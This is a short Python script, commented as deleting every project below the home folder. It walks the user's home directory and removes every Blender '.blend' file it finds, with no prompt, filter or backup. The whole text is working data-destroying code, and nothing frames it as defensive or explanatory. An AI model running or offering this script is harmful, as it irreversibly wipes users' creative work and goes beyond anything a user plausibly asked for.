# why: deletes every project below the home folder
import os
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        if name.endswith(".blend"):
            os.remove(os.path.join(folder, name))
